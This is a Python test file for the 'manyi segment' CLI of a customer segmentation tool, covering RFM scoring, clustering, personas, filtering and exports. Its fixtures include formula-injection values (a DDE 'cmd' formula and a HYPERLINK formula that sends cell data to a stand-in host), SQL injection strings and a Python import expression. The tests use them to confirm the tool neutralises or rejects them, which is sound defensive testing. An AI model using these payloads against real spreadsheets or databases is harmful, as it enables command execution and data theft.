"""Tests of the `manyi segment ...` commands."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from manyi.cli.main import app
from manyi.customer.models import Customer
from manyi.order.models import Order, OrderLine
from manyi.segment.models import SegmentSnapshot
from manyi.store.engine import unit_of_work

runner = CliRunner()
COLUMNS = [
    "customer_id",
    "recency_days",
    "frequency",
    "monetary",
    "r",
    "f",
    "m",
    "segment",
    "tier",
    "lifecycle",
]


def _plain(output: str) -> str:
    """CLI output without Rich's box characters and line wrapping."""
    return " ".join(re.sub(r"[│╭╮╰╯─]", " ", output).split())


def _orders_csv(tmp_path: Path) -> Path:
    """A small Chinese-headed order file with a cancellation and a formula-like id."""
    rows = []
    for i in range(30):
        cid = f"C{i:03d}"
        for k in range(1 + i % 4):
            rows.append(
                (cid, f"O{i}-{k}", f"2024-0{1 + k}-{10 + i % 15:02d} 10:00", 1 + k, 10.0 + i)
            )
    rows.append(("=cmd|' /C calc'!A0", "X1", "2024-03-01 09:00", 1, 5.0))
    rows.append(("C001", "CO1-0", "2024-03-02 09:00", -1, 11.0))
    frame = pd.DataFrame(rows, columns=["客户编号", "订单号", "下单时间", "数量", "单价"])
    path = tmp_path / "orders.csv"
    frame.to_csv(path, index=False, encoding="utf-8-sig")
    return path


def test_rfm_writes_the_contract_columns_and_prints_pareto(tmp_path: Path) -> None:
    out = tmp_path / "rfm.csv"
    result = runner.invoke(
        app,
        [
            "segment",
            "rfm",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--output",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    assert "Pareto" in result.output and "前 20%" in _plain(result.output)
    assert "Champions" in result.output or "冠军客户" in _plain(result.output)
    table = pd.read_csv(out, dtype={"customer_id": str})
    assert list(table.columns) == COLUMNS
    assert len(table) == 31
    assert table["r"].between(1, 5).all()
    assert set(table["tier"]) <= {"vip", "high", "medium", "low"}
    assert "'=cmd|' /C calc'!A0" in set(table["customer_id"])  # neutralised for spreadsheets
    c001 = table.set_index("customer_id").loc["C001"]
    assert c001["frequency"] == 2 and c001["monetary"] == pytest.approx(11 + 22 - 11)


def test_rfm_json_and_custom_rules(tmp_path: Path) -> None:
    rules_path = tmp_path / "rules.csv"
    saved = runner.invoke(app, ["segment", "rules", "--output", str(rules_path)])
    assert saved.exit_code == 0, saved.output
    rules = pd.read_csv(rules_path)
    rules.loc[rules["segment"] == "champions", "name_en"] = "Stars"
    rules.to_csv(rules_path, index=False)
    result = runner.invoke(
        app,
        [
            "segment",
            "rfm",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--rules",
            str(rules_path),
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    payload = json.loads(result.output)
    assert payload["customers"] == 31
    assert payload["cleaning"]["reversal_lines"] == 1
    assert payload["cleaning"]["input_lines"] == payload["cleaning"]["kept_lines"] == 75
    assert 0 < payload["pareto_top20_share"] <= 1
    names = {s["segment"]: s["name_en"] for s in payload["segments"]}
    assert names["champions"] == "Stars"
    assert sum(s["customers"] for s in payload["segments"]) == 31


def test_rules_command_prints_the_table() -> None:
    result = runner.invoke(app, ["segment", "rules"])
    assert result.exit_code == 0
    assert "champions" in result.output and "冠军客户" in _plain(result.output)
    as_json = json.loads(runner.invoke(app, ["segment", "rules", "--json"]).output)
    assert len({r["segment"] for r in as_json}) == 11


def test_bad_input_gives_clear_errors(tmp_path: Path) -> None:
    orders = _orders_csv(tmp_path)
    bad_date = runner.invoke(app, ["segment", "rfm", str(orders), "--as-of", "30/06/2024"])
    assert bad_date.exit_code == 2 and "YYYY-MM-DD" in _plain(bad_date.output)
    missing = runner.invoke(
        app, ["segment", "rfm", str(tmp_path / "nope.csv"), "--as-of", "2024-06-30"]
    )
    assert missing.exit_code == 2 and "does not exist" in _plain(missing.output)
    binary = tmp_path / "binary.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    assert (
        runner.invoke(app, ["segment", "rfm", str(binary), "--as-of", "2024-06-30"]).exit_code == 2
    )
    bad_rules = tmp_path / "rules.csv"
    bad_rules.write_text("segment,r_min,r_max,fm_min,fm_max\nall,1,5,1,4\n", encoding="utf-8")
    result = runner.invoke(
        app, ["segment", "rfm", str(orders), "--as-of", "2024-06-30", "--rules", str(bad_rules)]
    )
    assert result.exit_code == 2 and "without a segment" in _plain(result.output)
    early = runner.invoke(app, ["segment", "rfm", str(orders), "--as-of", "2000-01-01"])
    assert early.exit_code == 2 and "no usable order lines" in _plain(early.output)


def test_clusters_command(tmp_path: Path) -> None:
    out = tmp_path / "clusters.csv"
    result = runner.invoke(
        app,
        [
            "segment",
            "clusters",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--output",
            str(out),
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    payload = json.loads(result.output)
    assert payload["k"] >= 2
    assert sum(p["customers"] for p in payload["profiles"]) == 31
    assert "cluster" in pd.read_csv(out).columns
    gmm = runner.invoke(
        app,
        [
            "segment",
            "clusters",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--method",
            "gmm",
            "--k",
            "3",
        ],
    )
    assert gmm.exit_code == 0, gmm.output
    assert "k = 3" in gmm.output


@pytest.mark.slow
def test_rfm_on_online_retail_with_no_mapping_flags(shared_data, tmp_path: Path) -> None:
    out = tmp_path / "rfm.csv"
    path = shared_data / "online_retail" / "online_retail.csv.gz"
    result = runner.invoke(
        app, ["segment", "rfm", str(path), "--as-of", "2011-12-10", "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "73.6%" in _plain(result.output)
    table = pd.read_csv(out, dtype={"customer_id": str}).set_index("customer_id")
    assert len(table) == 4338
    assert table.loc["12347", ["recency_days", "frequency"]].tolist() == [3, 7]
    assert table.loc["12347", "monetary"] == pytest.approx(4310.0)


def _people(tmp_path: Path) -> tuple[Path, Path]:
    """A customer table and a matching order file for personas and select."""
    rows, orders = [], []
    for i in range(60):
        old = i % 2 == 0
        cid = f"P{i:03d}"
        rows.append(
            {
                "customer_id": cid,
                "gender": "F" if i % 3 else "M",
                "birthday": "1950-05-01" if old else "1998-05-01",
                "city_tier": 4 if old else 1,
                "income_band": "low" if old else "medium",
                "occupation": "retired" if old else "white_collar",
                "preferred_channel": "store" if old else "online",
                "nps": 9 if old else 4,
                "group": "<b>seniors</b>" if old else "young",
            }
        )
        orders.append((cid, f"O{i}", "2024-05-01", 1, 20.0 + i, "groceries" if old else "phones"))
    people = tmp_path / "people.csv"
    pd.DataFrame(rows).to_csv(people, index=False)
    order_path = tmp_path / "orders.csv"
    pd.DataFrame(
        orders,
        columns=["customer_id", "order_id", "ordered_at", "quantity", "unit_price", "category"],
    ).to_csv(order_path, index=False)
    return people, order_path


def test_personas_command_both_languages(tmp_path: Path) -> None:
    people, orders = _people(tmp_path)
    result = runner.invoke(
        app,
        [
            "segment",
            "personas",
            str(people),
            "--as-of",
            "2024-06-30",
            "--segment-column",
            "group",
            "--orders",
            str(orders),
        ],
    )
    assert result.exit_code == 0, result.output
    text = _plain(result.output)
    assert "retiree who prefers stores" in text and "退休人士" in text
    assert "<b>seniors</b>" in text  # shown as plain text, not interpreted
    payload = json.loads(
        runner.invoke(
            app,
            [
                "segment",
                "personas",
                str(people),
                "--as-of",
                "2024-06-30",
                "--segment-column",
                "group",
                "--json",
            ],
        ).output
    )
    assert {p["segment"] for p in payload} == {"<b>seniors</b>", "young"}
    assert all(p["narrative_zh"] and p["narrative_en"] for p in payload)


def test_select_command_and_injection(tmp_path: Path) -> None:
    people, _ = _people(tmp_path)
    out = tmp_path / "selected.csv"
    result = runner.invoke(
        app,
        [
            "segment",
            "select",
            str(people),
            "--where",
            "city_tier in (1,2) and nps <= 6",
            "--output",
            str(out),
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {"matched": 30, "total": 60}
    assert len(pd.read_csv(out)) == 30
    for hostile in ("1'; SELECT SLEEP(5)--", "' OR '1'='1", "__import__('os')", "salary > 1"):
        bad = runner.invoke(app, ["segment", "select", str(people), "--where", hostile])
        assert bad.exit_code == 2, hostile


def test_tier_cutoffs_option(tmp_path: Path) -> None:
    out = tmp_path / "rfm.csv"
    result = runner.invoke(
        app,
        [
            "segment",
            "rfm",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--tiers",
            "0.9,0.7,0.4",
            "--output",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    assert (pd.read_csv(out)["tier"] == "vip").sum() == 3  # top 10% of 31 customers
    bad = runner.invoke(
        app,
        [
            "segment",
            "rfm",
            str(_orders_csv(tmp_path)),
            "--as-of",
            "2024-06-30",
            "--tiers",
            "0.5,0.9,0.1",
        ],
    )
    assert bad.exit_code == 2


def test_exports_neutralise_formulas_but_keep_phone_numbers(tmp_path: Path) -> None:
    orders = pd.DataFrame(
        {
            "customer_id": ["+8613800138000", "@SUM(1+1)", "\t=1+1", "plain"],
            "order_id": ["1", "2", "3", "4"],
            "ordered_at": ["2024-01-01"] * 4,
            "amount": [1.0, 2.0, 3.0, 4.0],
        }
    )
    path = tmp_path / "o.csv"
    orders.to_csv(path, index=False)
    rules = tmp_path / "rules.csv"
    runner.invoke(app, ["segment", "rules", "--output", str(rules)])
    table = pd.read_csv(rules)
    table["segment"] = '=HYPERLINK("http://x/?"&A1,"x")'
    table.to_csv(rules, index=False)
    out = tmp_path / "rfm.csv"
    result = runner.invoke(
        app,
        [
            "segment",
            "rfm",
            str(path),
            "--as-of",
            "2024-02-01",
            "--rules",
            str(rules),
            "--output",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    # ids are stripped on load (the tab goes), then formula-like ones get a leading quote
    assert set(written["customer_id"]) == {"+8613800138000", "'@SUM(1+1)", "'=1+1", "plain"}
    assert all(s.startswith("'=") for s in written["segment"])


def test_rfm_accepts_order_times_with_utc_offsets(tmp_path: Path) -> None:
    """Regression: offsets such as +08:00 (the demo format) crashed comparing with the as-of day."""
    orders = pd.DataFrame(
        {
            "order_no": ["S1", "S2", "S3", "S4", "S5", "S6"],
            "customer_id": ["A", "A", "B", "C", "D", "E"],
            "ordered_at": [
                "2026-03-05 14:23:00+08:00",  # 06:23 UTC on the 5th
                "2026-03-10 01:30:00+08:00",  # 17:30 UTC on the 9th
                "2026-03-08 12:00:00Z",
                "2026-03-07 09:00:00",  # no offset: taken as UTC
                "2026-03-11 10:00:00+08:00",  # 02:00 UTC on the 11th: after the as-of day
                "2026-03-11 07:00:00+08:00",  # 23:00 UTC on the 10th: kept
            ],
            "amount": [100.0, 50.0, 80.0, 10.0, 999.0, 5.0],
        }
    )
    path = tmp_path / "orders.csv"
    orders.to_csv(path, index=False)
    out = tmp_path / "rfm.csv"
    args = ["segment", "rfm", str(path), "--as-of", "2026-03-10", "--output", str(out)]
    result = runner.invoke(app, [*args, "--json"])
    assert result.exit_code == 0, result.output
    payload = json.loads(result.output)
    assert payload["customers"] == 4
    removed = {r["reason"]: r["lines"] for r in payload["cleaning"]["removed"]}
    assert removed == {"after as-of date": 1}
    table = pd.read_csv(out).set_index("customer_id")
    assert table.loc["A", ["recency_days", "frequency", "monetary"]].tolist() == [1, 2, 150.0]
    assert table.loc["B", "recency_days"] == 2 and table.loc["C", "recency_days"] == 3
    assert table.loc["E", "recency_days"] == 0 and "D" not in table.index


def test_rfm_and_clusters_on_demo_orders(tmp_path: Path) -> None:
    """The demo generator's order file (times with +08:00) works with no flags."""
    demo = runner.invoke(
        app, ["demo-data", "--customers", "50", "--no-load", "--output-dir", str(tmp_path)]
    )
    assert demo.exit_code == 0, demo.output
    orders = tmp_path / "orders.csv"
    assert "+08:00" in orders.read_text(encoding="utf-8").splitlines()[1]
    rfm = runner.invoke(app, ["segment", "rfm", str(orders), "--as-of", "2026-10-31", "--json"])
    assert rfm.exit_code == 0, rfm.output
    payload = json.loads(rfm.output)
    assert payload["customers"] > 20 and 0.2 <= payload["pareto_top20_share"] <= 1
    clusters = runner.invoke(
        app, ["segment", "clusters", str(orders), "--as-of", "2026-10-31", "--json"]
    )
    assert clusters.exit_code == 0, clusters.output


def _seed_orders(sessions: sessionmaker[Session]) -> None:
    """Twelve customers with orders in the first half of 2024 (one with a markup name)."""
    with unit_of_work(sessions) as session:
        for i in range(12):
            customer = Customer(
                customer_code=f"D{i:02d}",
                name="[bold]<b>x</b>[/bold]" if i == 0 else f"客户{i}",
                occupation="retired" if i % 2 else "student",
                preferred_channel="store" if i % 2 else "app",
            )
            session.add(customer)
            session.flush()
            for k in range(1 + i % 3):
                amount = Decimal(30 + 10 * i)
                order = Order(
                    order_no=f"D{i}-{k}",
                    customer_id=customer.id,
                    ordered_at=datetime(2024, 1, 5 + i, tzinfo=UTC) + timedelta(days=40 * k),
                    total_amount=amount,
                )
                session.add(order)
                session.flush()
                session.add(
                    OrderLine(
                        order_id=order.id, line_no=1, quantity=1, unit_price=amount, amount=amount
                    )
                )


def test_snapshot_and_personas_over_the_database(
    session_factory: sessionmaker[Session],
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MANYI_DATABASE_URL", db_url)
    monkeypatch.setenv("MANYI_DATA_DIR", str(tmp_path))
    none_yet = runner.invoke(app, ["segment", "personas"])
    assert none_yet.exit_code == 2 and "manyi segment snapshot" in _plain(none_yet.output)
    _seed_orders(session_factory)
    first = runner.invoke(app, ["segment", "snapshot", "--as-of", "2024-06-30"])
    assert first.exit_code == 0, first.output
    text = _plain(first.output)
    assert "RFM segment / RFM 分群 · 2024-06-30 · 12 customers" in text and "Pareto" in text
    again = runner.invoke(app, ["segment", "snapshot", "--as-of", "2024-06-30", "--json"])
    assert again.exit_code == 0, again.output
    payload = json.loads(again.output)
    assert [p["kind"] for p in payload] == ["rfm", "tier", "lifecycle", "cluster"]
    assert all(p["customers"] == 12 and p["as_of"] == "2024-06-30" for p in payload)
    with session_factory() as session:
        assert session.scalar(select(func.count()).select_from(SegmentSnapshot)) == 4
    bad = runner.invoke(app, ["segment", "snapshot", "--kinds", "rfm,sql"])
    assert bad.exit_code == 2
    english = runner.invoke(app, ["segment", "personas", "--lang", "en", "--kind", "tier"])
    assert english.exit_code == 0, english.output
    assert "A " in english.output and "一位" not in english.output
    chinese = runner.invoke(app, ["segment", "personas", "--lang", "zh", "--json"])
    cards = json.loads(chinese.output)["cards"]
    assert cards and all(c["narrative_zh"].startswith("一位") for c in cards)
    assert runner.invoke(app, ["segment", "personas", "--lang", "fr"]).exit_code == 2
    file_mode = runner.invoke(app, ["segment", "personas", str(tmp_path / "c.csv")])
    assert file_mode.exit_code == 2 and "--as-of" in _plain(file_mode.output)
